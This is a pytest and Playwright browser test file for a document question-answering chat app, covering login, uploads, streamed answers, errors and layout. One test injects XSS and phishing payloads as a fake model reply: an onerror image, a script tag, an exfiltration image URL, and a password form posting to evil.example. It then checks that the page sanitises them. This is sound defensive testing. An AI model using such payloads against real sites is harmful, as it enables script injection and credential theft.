"""The chat page in real headless Chromium against real daphne + worker processes.

Answers come from ChatOpenAI talking to the local OpenAI-compatible server, which
streams slowly enough to watch an answer grow and to stop it half-way.
Screenshots are saved under test-artifacts/.
"""

from __future__ import annotations

import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from queries.tests.conftest import FALCONS
from ragsite.testing.live import ROOT, LiveApp
from ragsite.testing.openai_server import OpenAIServer, Reply

pytestmark = pytest.mark.slow

ARTIFACTS = ROOT / "test-artifacts"
CHROMIUM_FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


def chromium_path() -> str:
    found = (
        os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    )
    if not found:
        pytest.fail("Chromium is needed for the browser tests: apt-get install chromium")
    return found


@pytest.fixture(scope="module")
def app(llm: OpenAIServer, tmp_path_factory) -> Iterator[LiveApp]:
    live = LiveApp(
        tmp_path_factory.mktemp("browser"),
        OPENAI_API_KEY="test-key",
        OPENAI_BASE_URL=llm.base_url,
        OPENAI_MODEL="test-model",
    )
    try:
        live.start(worker=True)
        live.create_user("alice", "alice-pass-123")
        yield live
    finally:
        live.stop()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(
            executable_path=chromium_path(), headless=True, args=CHROMIUM_FLAGS
        )
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def page(browser, app: LiveApp):
    context = browser.new_context(viewport={"width": 1280, "height": 860})
    opened = context.new_page()
    opened.set_default_timeout(30_000)
    yield opened
    context.close()


def screenshot(page, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / name), full_page=True)


def ask(page, question: str) -> None:
    box = page.get_by_label("Ask a question")
    box.fill(question)
    box.press("Enter")


def last_answer(page):
    return page.locator("article.answer").last


def wait_idle(page) -> None:
    page.wait_for_function("document.getElementById('send').disabled === false")


def test_1_sign_in_upload_and_watch_the_document_become_ready(page, app, tmp_path):
    page.goto(app.url + "/")
    assert "/accounts/login/" in page.url
    page.get_by_label("Username").fill("alice")
    page.get_by_label("Password").fill("alice-pass-123")
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("heading", name="Document Q&A").wait_for()
    page.wait_for_load_state()  # the page's script has run

    source = tmp_path / "falcons.txt"
    source.write_text(FALCONS)
    page.get_by_label("Upload").set_input_files(str(source))

    item = page.locator("#documents li", has_text="falcons")
    item.wait_for()
    page.wait_for_function(
        "document.querySelector('#documents li .badge')?.textContent === 'Ready'",
        timeout=90_000,
    )
    assert item.locator(".badge").text_content() == "Ready"


def test_2_the_answer_streams_in_with_clickable_citations(page, llm):
    words = [
        "Peregrine ",
        "falcons ",
        "**dive** ",
        "at ",
        "over ",
        "300 ",
        "km/h ",
        "when ",
        "hunting ",
        "their ",
        "prey ",
        "[1].",
    ]
    llm.replies.append(Reply(words, delay=0.2))

    ask(page, "How fast does a peregrine falcon dive?")
    lengths: list[int] = []
    stages: set[str] = set()
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        stages.add(page.locator("#stage").text_content() or "")
        lengths.append(len(last_answer(page).locator(".answer-text").inner_text()))
        if page.get_by_role("button", name="Send").is_enabled():
            break
        time.sleep(0.1)

    growth = sorted(set(lengths))
    assert len(growth) >= 4, f"answer did not grow token by token: {growth}"
    assert lengths == sorted(lengths)
    assert "Writing the answer…" in stages
    answer = last_answer(page)
    assert answer.locator("strong", has_text="dive").count() == 1  # Markdown rendered
    sources = answer.get_by_role("listitem")
    assert sources.count() >= 1 and "falcons.txt" in sources.first.inner_text()

    answer.locator("a.marker", has_text="[1]").click()
    assert "highlight" in (sources.first.get_attribute("class") or "")
    screenshot(page, "chat-answer.png")


def test_3_stop_ends_the_answer_and_the_model(page, llm):
    llm.replies.append(Reply([f"word{i} " for i in range(80)], delay=0.1))
    llm.tokens_sent = 0
    page.get_by_role("button", name="New chat").click()

    ask(page, "Where do peregrine falcons nest?")
    last_answer(page).get_by_text("word3", exact=False).wait_for()
    page.get_by_role("button", name="Stop").click()

    last_answer(page).get_by_text("Stopped.").wait_for()
    wait_idle(page)
    assert llm.settled_tokens() < 40, "the model kept streaming after Stop"

    # the stopped first answer still started a conversation: a follow-up continues it
    conversations = page.locator("#conversations button")
    page.wait_for_function("document.querySelector('#conversations button[aria-current]')")
    before = conversations.count()
    llm.completions.append(Reply(["Where do peregrine falcons nest in cities?"]))
    llm.replies.append(Reply(["On ", "tall ", "buildings ", "[1]."]))
    ask(page, "and in cities?")
    last_answer(page).locator(".answer-text", has_text="buildings").wait_for()
    wait_idle(page)
    assert conversations.count() == before
    rewrite = [r["body"] for r in llm.requests if not r["body"].get("stream")][-1]
    assert "Where do peregrine falcons nest?" in str(rewrite["messages"])


def test_4_a_past_conversation_reopens_and_continues(page, app, llm):
    page.reload()
    conversations = page.locator("#conversations button")
    conversations.first.wait_for()
    conversations.filter(has_text="How fast does a peregrine").first.click()

    page.locator(".question", has_text="How fast does a peregrine falcon dive?").wait_for()
    assert "300" in page.locator("article.answer").first.inner_text()

    llm.completions.append(Reply(["Where do peregrine falcons nest?"]))  # the rewrite
    llm.replies.append(Reply(["On ", "cliffs ", "and ", "tall ", "buildings ", "[1]."]))
    ask(page, "and where do they nest?")
    last_answer(page).locator(".answer-text", has_text="buildings").wait_for()
    wait_idle(page)
    assert page.locator(".question").count() == 2  # the reopened turn plus the follow-up
    screenshot(page, "chat-conversation.png")


def test_5_markdown_from_the_model_is_sanitised(page, app, llm):
    fetched = []
    page.on("request", lambda request: fetched.append(request.url))
    llm.replies.append(
        Reply(
            [
                "Safe **bold** text ",
                '<img src="x" onerror="window.hacked=1"> ',
                "<script>window.hacked=2</script> ",
                f"![chart]({app.url}/exfil?secret=42) ",
                '<form action="https://evil.example/"><input type="password" name="pw">',
                "<button>Sign in again</button></form> ",
                '<span id="question">shadow</span> ',
                "Use `arr[1]` in code; falcons are fast![1] ",
                "[link](javascript:window.hacked=3) [1]",
            ]
        )
    )

    ask(page, "Tell me about falcons")
    wait_idle(page)

    answer = last_answer(page)
    assert answer.locator("strong", has_text="bold").count() == 1
    assert page.evaluate("window.hacked") is None
    assert answer.locator("script, [onerror], a[href^='javascript']").count() == 0
    assert answer.locator(".answer-text :is(img, form, input, button, [id])").count() == 0
    assert not [url for url in fetched if "exfil" in url]
    assert answer.locator("code").inner_text() == "arr[1]"
    assert answer.locator(".answer-text a.marker").count() == 2
    assert page.locator("#question").count() == 1  # the page's own box, not the answer's
    answer.locator("a", has_text="link").click(force=True) if answer.locator(
        "a", has_text="link"
    ).count() else None
    assert page.evaluate("window.hacked") is None


def test_6_errors_are_explained(page, browser, llm):
    llm.replies.append(Reply(["Half ", "an ", "answer"], fail_after=2))
    ask(page, "Why are falcons fast?")
    alert = page.get_by_role("alert")
    alert.wait_for()
    assert "did not answer" in alert.inner_text()
    wait_idle(page)

    page.route("**/api/query/stream/", lambda route: route.abort("connectionreset"))
    ask(page, "Is the network up?")
    page.get_by_text("Connection lost. Check your network and try again.").wait_for()
    wait_idle(page)
    page.unroute("**/api/query/stream/")

    page.context.clear_cookies()
    ask(page, "Are you still there?")
    page.get_by_text("Your session has expired").wait_for()
    assert page.get_by_role("link", name="Sign in again").is_visible()


def test_7_keyboard_phone_and_dark_mode(browser, app):
    context = browser.new_context(
        viewport={"width": 390, "height": 844}, color_scheme="dark", is_mobile=True, has_touch=True
    )
    phone = context.new_page()
    phone.goto(app.url + "/accounts/login/")
    phone.get_by_label("Username").fill("alice")
    phone.get_by_label("Password").fill("alice-pass-123")
    phone.get_by_label("Password").press("Enter")
    box = phone.get_by_label("Ask a question")
    box.wait_for()
    phone.wait_for_load_state()  # the page's script has run

    box.fill("first line")
    box.press("Shift+Enter")
    box.type("second line")
    assert box.input_value() == "first line\nsecond line"
    assert phone.locator(".question").count() == 0  # Shift+Enter did not send

    background = phone.evaluate("getComputedStyle(document.body).backgroundColor")
    assert background == "rgb(21, 22, 26)"
    header = phone.evaluate(
        """() => [...document.querySelectorAll('.topbar h1, .topbar a, .topbar button')]
            .filter((el) => el.offsetParent !== null)
            .map((el) => {
                const text = document.createRange();
                text.selectNodeContents(el);
                return [el.textContent.trim(), text.getClientRects().length,
                        el.scrollWidth <= el.clientWidth];
            })"""
    )
    assert all(lines == 1 and whole for _, lines, whole in header), header  # one row, uncut
    assert not phone.locator("#sidebar").is_visible()
    phone.get_by_role("button", name="Menu").click()
    assert phone.locator("#sidebar").is_visible()
    screenshot(phone, "chat-phone-dark.png")
    context.close()


def test_8_files_dropped_on_the_sidebar_are_uploaded(page, app):
    page.goto(app.url + "/accounts/login/")
    page.get_by_label("Username").fill("alice")
    page.get_by_label("Password").fill("alice-pass-123")
    page.get_by_role("button", name="Sign in").click()
    page.locator("#dropzone").wait_for()
    page.wait_for_load_state()  # the drop listener exists

    page.evaluate("""() => {
        const transfer = new DataTransfer();
        transfer.items.add(new File(["Kestrels hover while hunting voles."], "kestrels.md",
                                    {type: "text/markdown"}));
        transfer.items.add(new File([new Uint8Array([0, 1, 2, 3, 255])], "junk.txt"));
        const zone = document.getElementById("dropzone");
        zone.dispatchEvent(new DragEvent("drop", {dataTransfer: transfer, bubbles: true,
                                                  cancelable: true}));
    }""")

    page.locator("#documents li", has_text="kestrels").wait_for()
    assert "junk.txt: This kind of file is not supported" in page.get_by_role("alert").inner_text()


def test_9_a_document_is_deleted_after_confirmation(page, app):
    page.context.add_cookies([])
    page.goto(app.url + "/accounts/login/")
    page.get_by_label("Username").fill("alice")
    page.get_by_label("Password").fill("alice-pass-123")
    page.get_by_role("button", name="Sign in").click()
    item = page.locator("#documents li", has_text="falcons")
    item.wait_for()
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete kestrels").click()
    page.locator("#documents li", has_text="kestrels").wait_for(state="detached")

    page.once("dialog", lambda dialog: dialog.dismiss())
    page.get_by_role("button", name="Delete falcons").click()
    page.wait_for_timeout(300)
    assert item.count() == 1  # dismissed: still there

    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete falcons").click()
    page.get_by_text("No documents yet").wait_for()
    assert Path(ARTIFACTS / "chat-answer.png").exists()


def test_10_the_documents_page_uploads_and_shows_each_document_in_full(page, app, tmp_path):
    page.goto(app.url + "/")
    page.get_by_role("link", name="Documents", exact=True).click()
    notes = tmp_path / "owls.md"
    notes.write_text("# Owls\n\nBarn owls hunt at night by sound alone.\n")

    page.get_by_label("Files to upload").set_input_files(str(notes))
    page.get_by_role("button", name="Upload", exact=True).click()
    page.get_by_text("owls.md is queued for processing.").wait_for()

    row = page.get_by_role("row", name="Owls")
    row.get_by_text("Ready").wait_for(timeout=60_000)  # the page refreshes itself
    assert "owls.md" in row.inner_text()
    screenshot(page, "documents.png")

    row.get_by_role("link", name="Delete Owls").click()
    page.get_by_role("button", name="Delete").click()
    page.get_by_text("owls.md was deleted.").wait_for()


@pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r"])
def test_11_the_pages_parser_reads_every_token_exactly(browser, app, line_end):
    from queries.sse import KEEP_ALIVE, event
    from queries.tests.test_sse import TOKENS

    page = browser.new_page()
    page.goto(app.url + "/accounts/login/")
    page.add_script_tag(url=app.url + "/static/queries/sse.js")
    frames = [event("token", t) for t in TOKENS] + [KEEP_ALIVE, event("done", {"ok": True})]
    wire = "".join(frames).replace("\n", line_end)
    for size in (1, 2, 3, 7, 4096):
        read = page.evaluate(
            """([wire, size]) => {
                const events = [], comments = [];
                const parser = new SSEParser(
                    (e, d) => events.push([e, d]), (c) => comments.push(c));
                for (let i = 0; i < wire.length; i += size) parser.feed(wire.slice(i, i + size));
                parser.end();
                return {events, comments};
            }""",
            [wire, size],
        )
        assert read["events"][:-1] == [["token", t] for t in TOKENS], size
        assert read["events"][-1] == ["done", '{"ok": true}'], size
        assert read["comments"] == ["keep-alive"], size
    page.close()
